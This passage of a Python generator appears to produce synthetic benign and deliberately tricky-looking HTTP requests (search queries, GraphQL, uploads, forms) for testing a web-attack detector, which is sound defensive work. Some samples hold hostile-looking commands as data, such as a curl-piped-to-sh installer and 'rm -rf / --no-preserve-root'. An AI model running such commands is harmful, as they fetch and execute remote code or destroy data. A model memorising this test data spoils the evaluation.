        fname="0001-fix-typo.patch",
        path="/api/v1/patches",
    ),
    lambda: E(
        pick("function debounce", "TODO remove", "class UserRepository", "useEffect cleanup"),
        pl=["query"],
        param="q",
        path="/search/code",
    ),
    lambda: E(
        JUNIT,
        pl=["xml", "multipart"],
        doc=True,
        fname="junit.xml",
        path="/api/v4/projects/%d/pipelines/%d/test_report" % (R.randint(10, 99), R.randint(1000, 9999)),
    ),
    lambda: E(
        "pull_request_review_comment",
        pl=["header"],
        hdr="X-GitHub-Event",
        client="api",
        method="POST",
        path="/webhooks/github",
        ua="GitHub-Hookshot/2c4f1a9",
        body=(
            cdump({"action": "created", "comment": {"body": "Looks good", "id": R.randint(10**8, 10**9)}}),
            "application/json",
        ),
    ),
    lambda: E(
        "feature/%s" % pick("checkout-v2", "dark-mode", "retry-logic", "i18n-pt-br"),
        pl=["path"],
        path="/api/v1/repos/web/branches",
        psafe="",
    ),
    lambda: E(
        "approved",
        pl=["form"],
        param="state",
        path="/reviews/submit",
        f=[("comment", "Nice cleanup"), ("_csrf", rstr(32))],
    ),
    lambda: E(
        rhex(40), pl=["json_key"], jkdoc=lambda K: {"statuses": {K: {"state": "success", "context": "ci/build"}}}
    ),
]
CR_H = [
    lambda: E(
        '```python\nresult = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=True)\n```\nCould we use `check_output` here?',
        pl=["json"],
        jdoc=mr_doc,
    ),
    lambda: E(
        "Please avoid `eval()` here \u2014 `ast.literal_eval(raw)` is safer for parsing the config literal.",
        pl=["json"],
        jdoc=mr_doc,
    ),
    lambda: E(
        'query = "SELECT id, email FROM users WHERE org_id = %s AND deleted_at IS NULL"\ncursor.execute(query, (org_id,))',
        pl=["json", "form"],
        jdoc=mr_doc,
        param="body",
    ),
    lambda: E("<script src=\"{{ asset('build/app.js') }}\" defer></script>", pl=["json"], jdoc=mr_doc),
    lambda: E(
        'This is injectable: `run: echo "${{ github.event.pull_request.title }}"` \u2014 pass it through an env var instead.',
        pl=["json"],
        jdoc=mr_doc,
    ),
    lambda: E(
        'image: "{{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}"',
        pl=["json", "multipart"],
        jdoc=mr_doc,
        fname="deployment.yaml",
    ),
    lambda: E(
        '<?xml version="1.0" encoding="UTF-8"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>com.acme</groupId>\n  <artifactId>api</artifactId>\n  <version>2.4.1</version>\n  <properties>\n    <log.dir>${sys:app.home}/logs</log.dir>\n  </properties>\n  <dependencies>\n    <dependency><groupId>com.acme</groupId><artifactId>core</artifactId><version>${project.version}</version></dependency>\n  </dependencies>\n</project>\n',
        pl=["xml", "multipart"],
        doc=True,
        fname="pom.xml",
        path="/api/v1/repos/api/contents/pom.xml",
    ),
    lambda: E(
        "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.55.2",
        pl=["json"],
        param="run",
        jdoc=lambda S: {
            "jobs": {"lint": {"runs-on": "ubuntu-latest", "steps": [{"uses": "actions/checkout@v4"}, {"run": S}]}}
        },
    ),
    lambda: E("Runtime.getRuntime().addShutdownHook(new Thread(() -> pool.shutdown()));", pl=["json"], jdoc=mr_doc),
    lambda: E('config_path = os.path.join(BASE_DIR, "..", "config", "settings.yaml")', pl=["json"], jdoc=mr_doc),
    lambda: E(
        "el.innerHTML = `<li>${escapeHtml(item.name)}</li>`; // escaped, see utils/escape.ts", pl=["json"], jdoc=mr_doc
    ),
    lambda: E(
        "RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates && rm -rf /var/lib/apt/lists/*",
        pl=["json", "multipart"],
        jdoc=mr_doc,
        fname="Dockerfile",
    ),
    lambda: E(
        "$stmt = $pdo->prepare('SELECT * FROM orders WHERE id = :id'); $stmt->execute(['id' => $id]);",
        pl=["json"],
        jdoc=mr_doc,
    ),
    lambda: E(
        '<PatternLayout pattern="%d{ISO8601} [%t] %-5level %logger{36} - %msg%n"/> and write to ${sys:catalina.base}/logs',
        pl=["json"],
        jdoc=mr_doc,
    ),
    lambda: E('@Value("${spring.datasource.url}") private String dbUrl;', pl=["json"], jdoc=mr_doc),
]
CR_SINK = dict(
    hosts=["gitlab.kestrel-dev.net", "api.codehaven.io", "review.lanternworks.dev", "ci.lanternworks.dev"],
    paths=["/api/v4/projects/42/merge_requests/7/notes"],
    params=["body"],
    hdrs=["X-GitHub-Event"],
    cookies=["_gitlab_session"],
)

# ---------------------------------------------------------------- benign_search

SEARCH_N = [
    lambda: E(
        pick(
            "wireless earbuds noise cancelling",
            "best ramen near me",
            "python list comprehension",
            "winter jacket women size m",
            "how to repot a monstera",
            "cheap flights to lisbon",
            "vegan lasagna recipe",
            "standing desk under 400",
        ),
        pl=["query"],
        param=pick("q", "query", "search", "s"),
        path=pick("/search", "/api/v1/search", "/products"),
    ),
    lambda: E(
        {
            "query": pick("red running shoes", "usb-c hub", "linen shirt"),
            "filters": {"brand": [pick("Acme", "Northwind")], "price": {"min": 20, "max": 120}},
            "page": 1,
        },
        pl=["json"],
        jdoc=lambda S: S,
        path="/api/v2/search",
    ),
    lambda: E(
        pick("kubernetes ingress timeout", "postgres vacuum", "react suspense"), pl=["path"], path="/search", psafe=""
    ),
    lambda: E(pick("garden hose", "desk lamp", "hiking boots"), pl=["cookie"], cookie="last_search"),
    lambda: E(
        pick("tax forms 2026", "library opening hours", "bus 42 timetable"), pl=["form"], param="q", path="/search"
    ),
    lambda: E(pick("relevance", "price_asc", "newest"), pl=["query"], param="sort", path="/products"),
    lambda: E(pick("en", "de", "pt"), pl=["header"], hdr="X-Search-Locale", client="xhr"),
    lambda: E("facets[brand][]", pl=["query_key"], kval=pick("Acme", "Northwind", "Globex"), path="/products"),
]
SEARCH_H = [
    lambda: E('"drop shipping" OR "print on demand" -amazon', pl=["query", "json"], param="q"),
    lambda: E('site:docs.python.org "select" module', pl=["query"], param="q"),
    lambda: E("c# List<T> where T : class constraint", pl=["query"], param="q"),
    lambda: E("what does 1=1 mean in a sql where clause", pl=["query", "form"], param="q"),
    lambda: E("how to use union select in mysql", pl=["query"], param="q"),
    lambda: E("<br> vs <br/> html5", pl=["query", "cookie"], param="q", cookie="last_search"),
    lambda: E("rm -rf / --no-preserve-root meaning", pl=["query"], param="q"),
    lambda: E("node require ../ relative path not found", pl=["query", "json"], param="q"),
    lambda: E("java Runtime.exec example with arguments", pl=["query"], param="q"),
    lambda: E("log4j jndi lookup vulnerability explained", pl=["query"], param="q"),
    lambda: E(
        'title:"O\'Brien" AND year:[2019 TO 2024]', pl=["query", "json"], param="q", path="/api/v1/catalog/search"
    ),
    lambda: E('price:<100 rating:>=4 "wireless"', pl=["query"], param="q"),
    lambda: E("/etc/hosts windows equivalent", pl=["query"], param="q"),
    lambda: E("script tag async vs defer", pl=["query", "form"], param="q"),
]
SEARCH_SINK = dict(
    hosts=["search.archivebay.org", "www.brightline-outfitters.com", "docs.lanternworks.dev", "api.findly.io"],
    paths=["/search"],
    params=["q"],
    hdrs=["X-Search-Locale"],
    cookies=["last_search"],
)

# ---------------------------------------------------------------- benign_graphql


def gql(op, query, variables, hard=False, pls=("json", "json", "query")):
    def jd(S):
        return {"operationName": op, "variables": variables, "query": S}

    return E(
        query,
        pl=list(pls),
        jdoc=jd,
        path=pick("/graphql", "/api/graphql", "/v1/graphql"),
        param="query",
        q=[("operationName", op), ("variables", cdump(variables))],
        q_query_only=True,
        method_by_pl={"json": "POST", "query": "GET"},
    )


GQL_N = [
    lambda: gql(
        "GetOrder",
        "query GetOrder($id: ID!) { order(id: $id) { id status total { amount currency } lineItems(first: 10) { edges { node { sku quantity } } } } }",
        {"id": "gid://shop/Order/%d" % R.randint(10**6, 10**7)},
    ),
    lambda: gql("Viewer", "query Viewer { viewer { id login name avatarUrl } }", {}),
    lambda: gql(
        "UpdateProfile",
        "mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { profile { id displayName } errors { field message } } }",
        {"input": {"displayName": person(), "timezone": "Europe/Lisbon"}},
        pls=("json",),
    ),
    lambda: gql(
        "Products",
        "query Products($first: Int!, $after: String) { products(first: $first, after: $after) { pageInfo { hasNextPage endCursor } nodes { id title priceRange { min { amount } } } } }",
        {"first": 24, "after": b64(rbytes(9))},
    ),
    lambda: gql(
        "AddToCart",
        "mutation AddToCart($cartId: ID!, $lines: [CartLineInput!]!) { cartLinesAdd(cartId: $cartId, lines: $lines) { cart { id totalQuantity } } }",
        {
            "cartId": "gid://shop/Cart/" + rstr(20),
            "lines": [{"merchandiseId": "gid://shop/ProductVariant/%d" % R.randint(10**8, 10**9), "quantity": 1}],
        },
        pls=("json",),
    ),
    lambda: gql(
        "Notifications",
        "query Notifications { notifications(unreadOnly: true, first: 20) { totalCount nodes { id title createdAt } } }",
        {},
    ),
    lambda: gql(
        "Shipment",
        "query Shipment($tracking: String!) { shipment(trackingNumber: $tracking) { status events { at location description } } }",
        {"tracking": "PG%010d" % R.randint(0, 10**10)},
    ),
]
GQL_H = [
    lambda: gql(
        "IntrospectionQuery",
        "query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { ...FullType } directives { name locations args { ...InputValue } } } } fragment FullType on __Type { kind name fields(includeDeprecated: true) { name args { ...InputValue } type { ...TypeRef } } } fragment InputValue on __InputValue { name type { ...TypeRef } defaultValue } fragment TypeRef on __Type { kind name ofType { kind name ofType { kind name } } }",
        {},
    ),
    lambda: gql(
        "Search",
        'query Search { search(term: "drop table saw", type: PRODUCT, first: 10) { nodes { ... on Product { id title } } } }',
        {},
    ),
    lambda: gql(
        "SetBio",
        'mutation SetBio { updateBio(text: "I <3 SQL; select * from life where fun = true -- cheers") { ok } }',
        {},
        pls=("json",),
    ),
    lambda: gql(
        "Repo",
        "query Repo($owner: String!, $name: String!, $withIssues: Boolean!) { repository(owner: $owner, name: $name) { id ...RepoFields issues(first: 5, states: OPEN) @include(if: $withIssues) { nodes { title } } } } fragment RepoFields on Repository { nameWithOwner stargazerCount }",
        {"owner": "acme", "name": "web", "withIssues": True},
    ),
    lambda: gql(
        "Aliases",
        'query Aliases { union: team(slug: "union") { id } select: team(slug: "select") { id } __typename }',
        {},
    ),
    lambda: gql(
        "Comment",
        'mutation Comment($body: String!) { addComment(input: {subjectId: "C_kw123", body: $body}) { commentEdge { node { id } } } }',
        {"body": 'Use `<script type="module">` and `import()` \u2014 works in all evergreen browsers.'},
        pls=("json",),
    ),
    lambda: gql(
        "Filter",
        'query Filter { users(where: {_or: [{email: {_ilike: "%@example.com"}}, {role: {_eq: "admin"}}]}, order_by: {created_at: desc}) { id email } }',
        {},
    ),
    lambda: gql("Path", 'query Path { file(path: "../shared/README.md", ref: "main") { text } }', {}),
]
GQL_SINK = dict(
    hosts=["graphql.shopwave.co", "api.teamhuddle.app", "gql.notebird.io", "api.parcelgrid.com"],
    paths=["/graphql"],
    params=["query"],
    hdrs=["X-Apollo-Operation-Name"],
    cookies=["session"],
)

# ---------------------------------------------------------------- benign_urls

URL_N = [
    lambda: E(
        "https://%s/webhooks/%s"
        % (pick("hooks.zapier-mirror.example", "api.acme-erp.example", "ci.example.org"), rstr(24)),
        pl=["json"],
        path="/api/v1/webhooks",
        jdoc=lambda S: {"url": S, "events": ["invoice.paid", "invoice.failed"], "secret": rstr(32), "active": True},
    ),
    lambda: E(
        "https://app.notebird.io/oauth/callback",
        pl=["query"],
        param="redirect_uri",
        path="/oauth/authorize",
        q=[
            ("response_type", "code"),
            ("client_id", rstr(20)),
            ("scope", "openid profile email"),
            ("state", rstr(16)),
            ("code_challenge_method", "S256"),
            ("code_challenge", b64url(rbytes(32))),
        ],
    ),
    lambda: E(
        pick("/dashboard", "/account/billing?tab=invoices", "/projects/42/settings", "/inbox"),
        pl=["query", "cookie"],
        param="next",
        cookie="return_to",
        path="/login",
    ),
    lambda: E(
        "https://images.example-cdn.com/products/%s.jpg?w=800&q=80" % rstr(10), pl=["json", "form"], param="image_url"
    ),
    lambda: E(
        "https://www.%s/%s"
        % (
            pick("bbc.co.uk/news", "nytimes.com/2026/11/30/technology", "lemonde.fr/international/article"),
            rstr(12, LOWER_DIGITS),
        ),
        pl=["query"],
        param="url",
        path="/api/unfurl",
    ),
    lambda: E(
        "https://example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=dec_2026",
        pl=["json", "form"],
        param="link",
    ),
    lambda: E(
        "https://www.%s/" % pick("example.org", "acme-studio.example", "bakery.example.pt"),
        pl=["form", "multipart"],
        param="website",
        path="/profile",
    ),
    lambda: E(
        "https://%s/" % pick("docs.example.com", "status.example.io"), pl=["header"], hdr="Referer", client="browser"
    ),
    lambda: E("pricing-2027", pl=["path"], path="/go", psafe=""),
    lambda: E(
        "https://calendar.example.com/ical/%s/basic.ics" % rstr(26, LOWER_DIGITS),
        pl=["json"],
        param="feed_url",
        path="/api/v1/calendars/subscribe",
    ),
]
URL_H = [
    lambda: E(
        "http://localhost:3000/auth/callback",
        pl=["query"],
        param="redirect_uri",
        path="/oauth/authorize",
        q=[("client_id", "dev-" + rstr(8)), ("response_type", "code")],
    ),
    lambda: E("http://127.0.0.1:8000/api/webhook/stripe", pl=["json"], param="url", path="/v1/webhook_endpoints"),
    lambda: E(
        "http://192.168.1.20:8123/api/webhook/%s" % rstr(20),
        pl=["json"],
        param="webhook_url",
        path="/api/v1/integrations/home-assistant",
    ),
    lambda: E(
        "https://app.example.com/login?next=%2Fadmin%2Fusers%3Fpage%3D2", pl=["json", "query"], param="return_url"
    ),
    lambda: E(
        "https://www.google.com/url?q=https%3A%2F%2Fexample.com%2Fdocs%2F&sa=D&source=editors&ust=" + str(epoch()),
        pl=["json", "form"],
        param="link",
    ),
    lambda: E(
        "https://hooks.slack.com/services/T%s/B%s/%s" % (rstr(8).upper(), rstr(10).upper(), rstr(24)),
        pl=["json", "form"],
        param="slack_webhook",
    ),
    lambda: E("ftp://ftp.debian.org/debian/dists/bookworm/Release", pl=["json"], param="mirror"),
    lambda: E("https://example.com/docs/v2/../v3/index.html", pl=["json", "query"], param="url"),
    lambda: E(
        "file:///Users/%s/Documents/Meeting%%20notes.md" % R.choice(FIRST).lower(),
        pl=["json"],
        param="source_url",
        path="/api/v1/imports",
    ),
    lambda: E("https://stackoverflow.com/search?q=union+select+vs+union+all", pl=["json", "form"], param="bookmark"),
    lambda: E(
        "https://example.com/callback?code=%s&state=%s#access_token=%s" % (rstr(20), rstr(12), rstr(30)),
        pl=["json"],
        param="callback_url",
    ),
    lambda: E("http://[2001:db8::10]:8080/health", pl=["json"], param="health_check_url", path="/api/v1/monitors"),
    lambda: E("https://user:%s@git.example.com/team/repo.git" % rstr(12), pl=["json", "form"], param="repo_url"),
]
URL_SINK = dict(
    hosts=["hooks.relaypoint.io", "api.linkjar.app", "app.notebird.io", "auth.northstar-id.com"],
    paths=["/api/v1/links"],
    params=["url"],
    hdrs=["Referer"],
    cookies=["return_to"],
)

# ---------------------------------------------------------------- benign_files

FILE_N = [
    lambda: E(
        pick(
            "Q3 report (final).pdf",
            "team-photo-2026.jpg",
            "invoice_88812.pdf",
            "slides_v4.pptx",
            "budget 2027.xlsx",
            "contract-signed.pdf",
        ),
        pl=["multipart"],
        mp="filename",
        path="/api/v1/files",
    ),
    lambda: E(
        pick("Screen Shot 2026-10-02 at 9.41.07 PM.png", "IMG_20261104_183012.jpg", "scan0001.pdf"),
        pl=["multipart"],
        mp="filename",
        path="/upload",
    ),
    lambda: E(pick("meeting-notes.md", "roadmap.docx", "logo.svg"), pl=["path"], path="/files/%s" % rstr(10), psafe=""),
    lambda: E(
        pick("Quarterly Review.pdf", "Holiday rota.xlsx"),
        pl=["json"],
        param="name",
        method="PATCH",
        path="/api/v1/files/%s" % rstr(12),
    ),
    lambda: E(pick("report.pdf", "export.csv"), pl=["query"], param="filename", path="/download"),
    lambda: E("src/components/%s.tsx" % pick("Button", "Modal", "DatePicker"), pl=["json", "query"], param="path"),
    lambda: E("attachment", pl=["header"], hdr="X-Upload-Disposition", client="api"),
    lambda: E("date,amount\n2026-11-01,12.40\n", pl=["multipart"], mp="content", fname="expenses.csv"),
]
FILE_H = [
    lambda: E("C:\\Users\\%s\\Documents\\Q3 report.xlsx" % R.choice(FIRST).lower(), pl=["multipart"], mp="filename"),
    lambda: E("O'Reilly - Learning SQL (3rd ed).pdf", pl=["multipart", "json"], mp="filename", param="name"),
    lambda: E("<draft> proposal v2.docx", pl=["multipart"], mp="filename"),
    lambda: E("install.sh", pl=["multipart"], mp="filename", fcontent='#!/bin/sh\nset -e\necho "installing..."\n'),
    lambda: E("backup_2026-12-01.sql", pl=["multipart", "query"], mp="filename", param="file"),
    lambda: E("r\u00e9sum\u00e9 (1).pdf", pl=["multipart", "path"], mp="filename", path="/files/shared", psafe=""),
    lambda: E("100% organic - label.png", pl=["multipart", "query"], mp="filename", param="filename"),
    lambda: E("Tom & Jerry; S01E01.mkv", pl=["multipart", "json"], mp="filename", param="name"),
    lambda: E("passwd-reset-flow.fig", pl=["multipart"], mp="filename"),
    lambda: E("cmd_reference_card.pdf", pl=["multipart", "query"], mp="filename", param="filename"),
    lambda: E("web.config.example", pl=["multipart", "path"], mp="filename", path="/repo/blob/main", psafe=""),
    lambda: E("photos/2026/11/../12/IMG_0423.jpg", pl=["json"], param="relative_path"),
    lambda: E("shared/etc/passwd-policy.md", pl=["json", "query"], param="path"),
    lambda: E("$RECYCLE.BIN notes.txt", pl=["multipart"], mp="filename"),
]
FILE_SINK = dict(
    hosts=["files.driftbox.cloud", "upload.notebird.io", "api.docvault.io", "share.mosaicprint.shop"],
    paths=["/api/v1/files", "/upload"],
    params=["name"],
    hdrs=["X-Upload-Disposition"],
    cookies=["folder"],
)

# ---------------------------------------------------------------- benign_base64


def png_bytes(n=60):
    return (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
        + rbytes(13)
        + rbytes(4)
        + b"\x00\x00"
        + bytes([0, n])
        + b"IDAT"
        + rbytes(n)
    )


def pdf_bytes():
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + rbytes(48)


def proto_bytes():
    out = bytearray()
    for field in range(1, R.randint(4, 8)):
        s = rstr(R.randint(3, 12)).encode()
        out += bytes([(field << 3) | 2, len(s)]) + s
    out += bytes([0x48]) + bytes([R.randint(1, 127)])
    return bytes(out)


B64_N = [
    lambda: E(
        "data:image/png;base64," + b64(png_bytes(R.randint(40, 120))),
        pl=["json"],
        param="avatar",
        path="/api/v1/profile",
        method="PUT",
    ),
    lambda: E(
        "data:image/jpeg;base64," + b64(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + rbytes(R.randint(60, 140))),
        pl=["json", "form"],
        param="photo",
    ),
    lambda: E(
        b64(pdf_bytes()),
        pl=["json"],
        param="content",
        path="/api/v2/documents",
        jdoc=lambda S: {"filename": "contract.pdf", "mimeType": "application/pdf", "content": S},
    ),
    lambda: E(b64(proto_bytes()), pl=["json", "query"], param="state"),
    lambda: E(
        b64(gzip.compress(('{"events":%d}' % R.randint(1, 99)).encode(), mtime=0)),
        pl=["json"],
        param="payload",
        path="/api/v1/telemetry/batch",
    ),
    lambda: E(
        b64url(
            cdump(
                {
                    "type": "webauthn.get",
                    "challenge": b64url(rbytes(32)),
                    "origin": "https://auth.northstar-id.com",
                    "crossOrigin": False,
                }
            ).encode()
        ),
        pl=["json"],
        param="clientDataJSON",
        path="/webauthn/assert/finish",
    ),
    lambda: E(
        "Basic " + b64("%s:%s" % (pick("svc-sync", "reporting", "grafana"), rstr(24))),
        pl=["header"],
        hdr="Authorization",
        client="api",
    ),
    lambda: E(
        jwt({"email": email_of(), "email_verified": True, "aud": rstr(20)}, alg="RS256", kid=rhex(16)),
        pl=["json", "form"],
        param="id_token",
        path="/auth/google/callback",
    ),
    lambda: E(b64(rbytes(R.choice([16, 24, 32]))), pl=["cookie"], cookie="device_id"),
]
B64_H = [
    lambda: E(
        "data:image/svg+xml;base64,"
        + b64(
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2l3 7h7l-5.5 4 2 7-6.5-4.5L5.5 20l2-7L2 9h7z" fill="#f5b301"/></svg>'
        ),
        pl=["json", "form"],
        param="icon",
    ),
    lambda: E(
        b64(
            '<html><body><h1>Welcome, {{first_name}}!</h1><p>Your order <b>#%d</b> has shipped.</p><a href="https://example.com/track">Track it</a></body></html>'
            % R.randint(1000, 99999)
        ),
        pl=["json"],
        param="html_base64",
        path="/api/v1/email/templates",
    ),
    lambda: E(
        b64("#!/bin/sh\nset -e\nexec /app/server --port 8080 --log-level info\n"),
        pl=["json"],
        param="entrypoint.sh",
        path="/api/v1/namespaces/prod/configmaps",
        jdoc=lambda S: {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": "app-scripts"},
            "type": "Opaque",
            "data": {"entrypoint.sh": S, "DB_PASSWORD": b64(rstr(20))},
        },
    ),
    lambda: E(
        b64(
            "-- migrate:up\nCREATE TABLE audit_log (id bigserial PRIMARY KEY, actor text NOT NULL, action text NOT NULL);\n-- migrate:down\nDROP TABLE audit_log;\n"
        ),
        pl=["json"],
        param="migration",
    ),
    lambda: E(
        b64(
            zlib.compress(
                (
                    '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0" IssueInstant="%s" AssertionConsumerServiceURL="https://app.notebird.io/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://app.notebird.io</saml:Issuer></samlp:AuthnRequest>'
                    % (rhex(32), iso_ts())
                ).encode()
            )[2:-4]
        ),
        pl=["query"],
        param="SAMLRequest",
        path="/sso/saml",
        q=[("RelayState", "/dashboard")],
    ),
    lambda: E(
        b64('{"$schema":"http://json-schema.org/draft-07/schema#","$ref":"#/definitions/order"}'),
        pl=["json", "form"],
        param="schema_b64",
    ),
    lambda: E(
        b64(b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + rbytes(20) + b"[Content_Types].xml" + rbytes(30)),
        pl=["json"],
        param="file",
        jdoc=lambda S: {"name": "proposal.docx", "data": S},
    ),
    lambda: E(
        b64("SELECT date_trunc('day', created_at) AS d, count(*) FROM orders GROUP BY 1 ORDER BY 1;"),
        pl=["json", "query"],
        param="q_b64",
        path="/api/v1/dashboards/query",
    ),
    lambda: E(
        "Bearer " + jwt({"name": "%s %s" % (R.choice(FIRST), R.choice(LAST_APOS)), "roles": ["editor"]}),
        pl=["header"],
        hdr="Authorization",
        client="api",
    ),
    lambda: E(
        b64(
            '<?xml version="1.0"?><Invoice><ID>%d</ID><Note>Thanks &amp; regards</Note></Invoice>'
            % R.randint(1000, 9999)
        ),
        pl=["json", "form"],
        param="xml_b64",
    ),
    lambda: E(b64(rbytes(R.randint(31, 89))), pl=["cookie", "form"], cookie="__Host-session", param="blob"),
]
B64_SINK = dict(
    hosts=["api.docvault.io", "upload.clipforge.video", "api.ledgerly.app", "k8s.lanternworks.dev"],
    paths=["/api/v1/blobs"],
    params=["data"],
    hdrs=["X-Payload"],
    cookies=["state"],
)

# ---------------------------------------------------------------- benign_api_json

API_N = [
    lambda: E(
        {
            "from": {"postalCode": "4000-%03d" % R.randint(0, 999), "country": "PT"},
            "to": {"postalCode": "%05d" % R.randint(10000, 99999), "country": "DE"},
            "parcels": [{"weightKg": round(R.uniform(0.2, 12), 2), "lengthCm": 30, "widthCm": 20, "heightCm": 10}],
        },
        pl=["json"],
        jdoc=lambda S: S,
        path="/api/v1/shipments/quote",
    ),
    lambda: E(person(), pl=["json"], param="displayName", method="PATCH", path="/api/v1/users/me"),
    lambda: E(
        {"enabled": True, "channels": ["email", "push"], "quietHours": {"start": "22:00", "end": "07:00"}},
        pl=["json"],
        param="notifications",
        method="PUT",
        path="/api/v1/settings",
    ),
    lambda: E(pick("shipped", "cancelled", "pending"), pl=["query"], param="status", path="/api/v1/orders"),
    lambda: E(uuid4(), pl=["path"], path="/api/v1/orders", psafe=""),
    lambda: E(pick("2026-12-01", "2026-11-15"), pl=["json_key"], jkdoc=lambda K: {"schedule": {K: ["09:00", "13:00"]}}),
    lambda: E("ticket_%d" % R.randint(1000, 9999), pl=["json", "form"], param="externalId", path="/api/v2/tickets"),
    lambda: E(pick("v2", "2026-10-01"), pl=["header"], hdr=pick("X-Api-Version", "Stripe-Version"), client="api"),
]
API_H = [
    lambda: E(
        "filters[title][$containsi]",
        pl=["query_key"],
        kval=pick("union", "select", "drop"),
        path="/api/articles",
        q=[("populate", "*"), ("sort[0]", "publishedAt:desc")],
    ),
    lambda: E(
        {"$or": [{"status": "active"}, {"status": "trial"}], "createdAt": {"$gte": "2026-01-01"}},
        pl=["json"],
        param="where",
        path="/api/v1/accounts/query",
    ),
    lambda: E(
        {"bool": {"must": [{"match": {"title": "select committee"}}], "filter": [{"range": {"price": {"lte": 100}}}]}},
        pl=["json"],
        param="query",
        path="/products/_search",
    ),
    lambda: E(
        {"source": "doc['price'].value * params.factor", "params": {"factor": 1.2}},
        pl=["json"],
        param="script",
        path="/products/_update_by_query",
        jdoc=lambda S: {"query": {"term": {"category": "books"}}, "script": S},
    ),
    lambda: E(
        {
            "$schema": "https://json-schema.org/draft/2020-12/schema",
            "$id": "https://example.com/order.schema.json",
            "type": "object",
            "properties": {"id": {"$ref": "#/$defs/uuid"}},
        },
        pl=["json"],
        param="schema",
    ),
    lambda: E(
        [
            {"op": "replace", "path": "/profile/bio", "value": "Hi! I'm a <b>designer</b>"},
            {"op": "remove", "path": "/tags/2"},
        ],
        pl=["json"],
        jdoc=lambda S: S,
        method="PATCH",
        ctype="application/json-patch+json",
    ),
    lambda: E(
        {"cmd": "build", "args": ["--prod", "--sourcemap=false"], "exec": "node scripts/build.js"},
        pl=["json"],
        param="task",
        path="/api/v1/pipelines/run",
    ),
    lambda: E(
        "createdAt DESC",
        pl=["query"],
        param="order",
        path="/api/orders",
        q=[("where[status]", "active"), ("limit", "50")],
    ),
    lambda: E(
        '{"where":{"or":[{"name":{"like":"%acme%"}},{"vip":true}]},"limit":10}',
        pl=["query"],
        param="filter",
        path="/api/Customers",
    ),
    lambda: E(
        {"_and": [{"email": {"_ilike": "%@example.com"}}, {"deleted_at": {"_is_null": True}}]},
        pl=["json"],
        param="where",
        jdoc=lambda S: {
            "query": "query ($where: users_bool_exp) { users(where: $where) { id } }",
            "variables": {"where": S},
        },
    ),
    lambda: E("eval", pl=["json"], param="mode", jdoc=lambda S: {"model": "resnet50", "mode": S, "batchSize": 32}),
]
API_SINK = dict(
    hosts=["api.parcelgrid.com", "api.fintrackhq.com", "api.shopwave.co", "api.orbitdesk.com"],
    paths=["/api/v1/items"],
    params=["data"],
    hdrs=["X-Api-Version"],
    cookies=["session"],
)

# ---------------------------------------------------------------- benign_forms

FORM_N = [
    lambda: E(
        person(),
        pl=["form"],
        param="full_name",
        path="/signup",
        f=[("email", email_of()), ("password", rstr(14)), ("terms", "on")],
        client="browser",
    ),
    lambda: E(
        "%d %s" % (R.randint(1, 300), pick("Rua Augusta", "Baker Street", "Hauptstraße", "Calle Mayor")),
        pl=["form"],
        param="address_line1",
        path="/checkout/address",
        f=[
            ("city", R.choice(CITIES)),
            ("postal_code", "%05d" % R.randint(10000, 99999)),
            ("country", pick("PT", "GB", "DE", "ES")),
        ],
    ),
    lambda: E(
        "Hi, I'd like to know if you ship to the Azores. Thanks!",
        pl=["form", "multipart"],
        param="message",
        path="/contact",
    ),
    lambda: E(email_of(), pl=["form"], param="email", path="/newsletter/subscribe"),
    lambda: E(pick("Morning", "Afternoon", "Evening"), pl=["form"], param="preferred_time", path="/appointments/book"),
    lambda: E(pick("1990-04-12", "1985-11-30"), pl=["form", "json"], param="birth_date", path="/profile"),
    lambda: E("newsletter_opt_in", pl=["form"], as_name=True, kval="1", path="/preferences"),
    lambda: E(
        pick("Great service", "Package arrived late", "Question about invoice"),
        pl=["multipart"],
        param="subject",
        path="/support/ticket",
    ),
]
FORM_H = [
    lambda: E(
        "%s %s" % (R.choice(FIRST), R.choice(LAST_APOS)), pl=["form", "multipart"], param="full_name", path="/signup"
    ),
    lambda: E(
        "Tr0ub4dor&3'--%s" % rstr(3),
        pl=["form"],
        param="password",
        path="/account/password",
        f=[("current_password", rstr(12))],
    ),
    lambda: E(
        "I tried <b>bold</b> in the bio and it shows the tags literally",
        pl=["form", "multipart"],
        param="message",
        path="/support/ticket",
    ),
    lambda: E(
        "12 O'Connell St., Apt #4; buzz 'B' (door code 1=open)",
        pl=["form"],
        param="address_line1",
        path="/checkout/address",
    ),
    lambda: E(
        "Please SELECT the express option -- and drop the gift wrap from the order, thanks!",
        pl=["form", "json"],
        param="order_notes",
    ),
    lambda: E(
        "After running `rm -rf ~/.cache/app` the app starts again; before that it crashed on launch.",
        pl=["form", "multipart"],
        param="description",
        path="/support/bug",
    ),
    lambda: E("Ratio must be < 1:3 and > 1:10 (see attached)", pl=["form"], param="comment"),
    lambda: E('"Smith" <john.smith@%s>' % R.choice(DOMAINS), pl=["form"], param="reply_to"),
    lambda: E("Order #A-1001 & #A-1002; both 'lost' per tracking", pl=["form", "multipart"], param="subject"),
    lambda: E("N/A -- see 'Other' field; union member discount applies", pl=["form"], param="notes"),
    lambda: E("Script writer / script supervisor (film)", pl=["form", "json"], param="job_title"),
    lambda: E("SELECT", pl=["form"], param="plan", path="/pricing/choose"),
]
FORM_SINK = dict(
    client=["browser", "browser", "xhr"],
    hosts=[
        "forms.civicpoll.org",
        "www.brightline-outfitters.com",
        "support.orbitdesk.com",
        "portal.meridian-health.org",
    ],
